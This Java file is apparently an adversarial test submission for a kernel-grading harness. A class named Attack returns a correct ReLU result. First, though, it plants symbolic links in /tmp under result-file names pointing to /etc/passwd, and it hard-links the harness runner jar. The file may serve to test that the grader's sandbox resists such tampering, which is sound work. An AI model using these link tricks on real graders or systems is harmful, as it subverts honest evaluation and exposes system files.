import assay.kernels.Relu;
import assay.kernels.Tensor;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

public class Attack implements Relu {
    @Override
    public Tensor relu(Tensor input) {
        try {
            for (String name : new String[] {"out.bin", "result.json", "results.xml", "score", "hs_err_pid1.log"}) {
                Files.createSymbolicLink(Path.of("/tmp", name), Path.of("/etc/passwd"));
            }
            Files.createLink(Path.of("/tmp/hard"), Path.of("/assay/runner.jar"));
        } catch (IOException e) {
            System.out.println(e.getMessage());
        }
        Tensor output = input.copy();
        for (int i = 0; i < output.size(); i++) output.data()[i] = Math.max(0, output.data()[i]);
        return output;
    }
}
